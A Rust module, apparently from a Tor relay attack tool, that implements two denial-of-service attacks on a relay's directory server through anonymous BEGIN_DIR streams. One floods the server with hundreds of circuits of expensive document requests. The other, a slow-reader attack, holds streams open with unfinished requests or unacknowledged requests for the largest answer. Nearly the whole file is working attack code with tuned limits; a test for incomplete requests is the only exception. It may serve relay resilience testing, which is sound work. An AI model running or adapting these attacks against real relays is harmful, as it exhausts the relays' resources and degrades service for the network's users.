//! Attacks on the relay's directory server over BEGIN_DIR streams, which are anonymous and use the relay's ORPort.

use super::attacker::{Attacker, LineId};
use super::circuits::Circuit;
use super::requests::{Requests, get};
use super::{Attack, AttackTarget, CircuitAt};
use onion::cell::relay::{MAX_DATA_LEN, RelayCommand};
use onion::cell::{BODY_LEN, Command};
use onion::{Duration, Instant};
use std::collections::BTreeMap;

/// Addresses of the attacker, with a link each.
const LINES: usize = 24;

/// Opens a stream to the directory and sends a request, or a part of one.
fn ask(circuit: &mut Circuit, attacker: &mut Attacker, stream_id: u16, request: &[u8]) {
    circuit.send(attacker, RelayCommand::BEGIN_DIR, stream_id, &[]);
    for part in request.chunks(MAX_DATA_LEN) {
        circuit.send(attacker, RelayCommand::DATA, stream_id, part);
    }
    attacker.counts().count_request();
}

/// Requests for which the relay must look up, assemble and compress documents.
pub(super) struct Work {
    requests: Requests,
    /// Circuits with unanswered requests: the number of these, and since when.
    asking: BTreeMap<CircuitAt, (Circuit, u16, Instant)>,
}

impl Work {
    /// Requests on a circuit. Their answers fit into its window, so the attacker need not send SENDMEs.
    const EACH: u16 = 4;

    /// Circuits at a time.
    const AT_ONCE: usize = 480;

    /// A circuit without an answer for this time is abandoned.
    const PATIENCE: Duration = Duration::from_secs(5);

    pub(super) fn new(target: &AttackTarget) -> Self {
        let requests = Requests::new(target.names().clone());
        Self { requests, asking: BTreeMap::new() }
    }
}

impl Attack for Work {
    fn act(&mut self, attacker: &mut Attacker) {
        let now = attacker.now();
        let is_late = |since: Instant| now.saturating_since(since) > Self::PATIENCE;
        for (_, (circuit, ..)) in self.asking.extract_if(.., |_, (.., since)| is_late(*since)) {
            circuit.destroy(attacker);
        }
        for line in attacker.keep(LINES) {
            if self.asking.len() + attacker.building() < Self::AT_ONCE && attacker.can_send(line) {
                attacker.begin(line, &[]);
            }
        }
    }

    fn handle_built(&mut self, attacker: &mut Attacker, mut circuit: Circuit) {
        for stream_id in 1..=Self::EACH {
            let request = self.requests.next(&mut attacker.rng);
            ask(&mut circuit, attacker, stream_id, &request);
        }
        let (at, since) = (circuit.at(), attacker.now());
        self.asking.insert(at, (circuit, Self::EACH, since));
    }

    fn handle_cell(
        &mut self,
        attacker: &mut Attacker,
        at: CircuitAt,
        command: Command,
        body: &[u8; BODY_LEN],
    ) {
        let Some((circuit, unanswered, _)) = self.asking.get_mut(&at) else { return };
        if command == Command::RELAY
            && let Some((RelayCommand::END, ..)) = circuit.open(body)
        {
            *unanswered -= 1;
        }
        if (command == Command::DESTROY || *unanswered == 0)
            && let Some((circuit, ..)) = self.asking.remove(&at)
        {
            circuit.destroy(attacker);
        }
    }

    fn handle_lost(&mut self, line: LineId) {
        self.asking.retain(|at, _| at.line != line);
    }
}

/// Streams that occupy the directory server: half never end their request, half request the longest answer and acknowledge
/// nothing of it. Each stream that the relay ends is replaced.
#[derive(Default)]
pub(super) struct SlowReaders {
    circuits: BTreeMap<CircuitAt, (Circuit, u16)>,
}

impl SlowReaders {
    const CIRCUITS: usize = 3 * LINES;

    /// Streams of a circuit: more answers than fit into its window.
    const STREAMS: u16 = 40;
}

/// A request for the longest answer. For every other stream only its first half.
pub(super) fn slow_request(number: u32) -> Vec<u8> {
    let mut request = get("/tor/server/all");
    if number.is_multiple_of(2) {
        request.truncate(request.len() - 2);
    }
    request
}

impl Attack for SlowReaders {
    fn act(&mut self, attacker: &mut Attacker) {
        for line in attacker.keep(LINES) {
            if self.circuits.len() + attacker.building() < Self::CIRCUITS && attacker.can_send(line)
            {
                attacker.begin(line, &[]);
            }
        }
    }

    fn handle_built(&mut self, attacker: &mut Attacker, mut circuit: Circuit) {
        for stream_id in 1..=Self::STREAMS {
            ask(&mut circuit, attacker, stream_id, &slow_request(stream_id.into()));
        }
        self.circuits.insert(circuit.at(), (circuit, Self::STREAMS));
    }

    fn handle_cell(
        &mut self,
        attacker: &mut Attacker,
        at: CircuitAt,
        command: Command,
        body: &[u8; BODY_LEN],
    ) {
        if command == Command::DESTROY {
            self.circuits.remove(&at);
        }
        let Some((circuit, streams)) = self.circuits.get_mut(&at) else { return };
        if command == Command::RELAY
            && let Some((RelayCommand::END, ..)) = circuit.open(body)
            && attacker.can_send(at.line)
        {
            *streams = streams.checked_add(1).unwrap_or(1);
            ask(circuit, attacker, *streams, &slow_request((*streams).into()));
        }
    }

    fn handle_lost(&mut self, line: LineId) {
        self.circuits.retain(|at, _| at.line != line);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_other_slow_request_is_incomplete() {
        let has_ended = |number| slow_request(number).ends_with(b"\r\n\r\n");
        assert_eq!([1, 2, 3, 4].map(has_ended), [true, false, true, false]);
    }
}
